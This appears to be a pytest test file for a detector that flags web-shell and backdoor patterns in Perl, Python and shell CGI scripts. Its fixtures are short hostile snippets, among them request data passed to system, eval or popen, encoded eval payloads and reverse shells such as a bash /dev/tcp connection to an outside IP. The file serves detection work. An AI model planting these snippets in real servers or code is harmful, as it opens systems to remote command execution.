from collections.abc import Callable, Iterator

import pytest

from codered.detect.scripts.cgi.reading import read_perl, read_python, read_shell
from codered.detect.scripts.facts import Fact, Script
from codered.model.indicators import ScriptLanguage

PERL = {
    "backticks": ("my $q = $ENV{'QUERY_STRING'}; print `$q`;", "runs-request-command"),
    "pipe": ('use CGI; $p{c} = param("c"); open(F, "$p{c}|");', "runs-request-command"),
    "own parser": (
        (
            "sub get { read(STDIN, $in, $ENV{'CONTENT_LENGTH'}); foreach $pair (split(/&/, $in)) "
            "{ ($n, $v) = split(/=/, $pair); $form{$n} = $v; } } get(); system($form{c});"
        ),
        "runs-request-command",
    ),
    "default": (
        'foreach (split(/&/, $ENV{QUERY_STRING})) { ($k, $v) = split(/=/); $in{$k} = $v } open(C, "$in{c}|");',
        "runs-request-command",
    ),
    "listens": ("$s = IO::Socket::INET->new(1); $c = $s->accept(); while (<$c>) { print `$_`; }", "connects-back"),
    "shifted": ("use CGI; sub run { my $c = shift; return `$c`; } run(CGI->new->param('c'));", "runs-request-command"),
    "prototype": ("sub run($) { my ($c) = @_; system($c) } run($ENV{QUERY_STRING});", "runs-request-command"),
    "kept": ("use CGI; $s->{q} = CGI->new; my $c = $s->{q}->param('c'); exec $c;", "runs-request-command"),
    "received": ('my $s = IO::Socket::INET->new("h:1"); while (my $l = <$s>) { system($l); }', "connects-back"),
    "packed": ("eval(pack('H*', '7072696e7428226f6b22293b'));", "runs-decoded-code"),
    "back": ('socket(S, 1, 1, 1); open(STDIN, ">&S"); exec("/bin/sh");', "connects-back"),
    "here": ("print <<E;\nit's\nE\neval($ENV{'HTTP_X'});", "runs-request-code"),
}
PYTHON = {
    "form": ('import cgi\nf = cgi.FieldStorage()\nos.system(f.getvalue("c"))', "runs-request-command"),
    "function": (
        "from flask import request\ndef run(c):\n    return os.popen(c)\nx = request.args\nrun(x)",
        "runs-request-command",
    ),
    "back": ('s = socket.socket()\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh"])', "connects-back"),
    "terminal": ("s = socket.socket()\nos.system('/bin/sh -i <&3 >&3')", "connects-back"),
    "hexed": ("exec(bytes.fromhex('696d706f7274206f733b206f732e73797374656d28312900').decode())", "runs-decoded-code"),
    "named": (
        "from flask import request\nc = request.args\ngetattr(os, 'sys' + 'tem')(c)",
        "runs-request-command",
    ),
    "imported": ("import cgi\nc = cgi.FieldStorage()\n__import__('os').popen(c)", "runs-request-command"),
    "handler": (
        "class H(BaseHTTPRequestHandler):\n  def do_GET(self):\n    os.popen(self.path)",
        "runs-request-command",
    ),
    "opened": (
        "import cgi\nf = cgi.FieldStorage()\nwith open(f['n'], 'wb') as o:\n  o.write(f['c'])",
        "writes-request-file",
    ),
    "quoted": ('import cgi\nt = """a\\"""" + b + """c"""\nos.system(cgi.FieldStorage())', "runs-request-command"),
    "received": ("while 1:\n  c = s.recv(9)\n  os.popen(c)", "connects-back"),
}
SHELL = {
    "eval": ('a="$QUERY_STRING"\neval "$a"', "runs-request-command"),
    "posted": ("echo Content-Type: text/plain\nread -n 9 P\neval $P", "runs-request-command"),
    "shown": ("cat $QUERY_STRING", "reads-request-file"),
    "back": ("bash -i >& /dev/tcp/192.0.2.1/9 0>&1", "connects-back"),
}
CASES: list[tuple[Callable[[Script], Iterator[Fact]], ScriptLanguage, str, str]] = [
    *((read_perl, "perl", "exit 0;\n" + text, fact) for text, fact in PERL.values()),
    *((read_python, "python", "raise SystemExit\n" + text, fact) for text, fact in PYTHON.values()),
    *((read_shell, "shell", "exit 0\n" + text, fact) for text, fact in SHELL.values()),
]


@pytest.mark.parametrize("case", CASES, ids=[*PERL, *PYTHON, *SHELL])
def test_flows_are_found(case: tuple[Callable[[Script], Iterator[Fact]], ScriptLanguage, str, str]) -> None:
    reader, language, text, fact = case
    assert fact in {found.name for found in reader(Script(language, text))}


def test_ordinary_programs_give_no_flow() -> None:
    found = {fact.name for fact in read_perl(Script("perl", "system($ARGV[0]); open(STDOUT, '>&LOG'); socket(S);"))}
    found |= {fact.name for fact in read_python(Script("python", "n = int(request.args)\nos.system(n)\n"))}
    found |= {fact.name for fact in read_shell(Script("shell", 'echo "$QUERY_STRING"\nnc -z host 80\n'))}
    assert found <= {"tiny", "runs-commands"}


def test_names_of_requests_mean_something_only_where_there_are_visitors() -> None:
    found = {fact.name for fact in read_python(Script("python", "def send(request):\n  os.system(request.path)\n"))}
    assert "runs-request-command" not in found
    assert "large-program" in {fact.name for fact in read_perl(Script("perl", "#" * 100_001))}
    assert not list(read_perl(Script("perl", "# a\npackage A;\nuse CGI;\nsystem(CGI->new->param('c'));\n1;\n")))
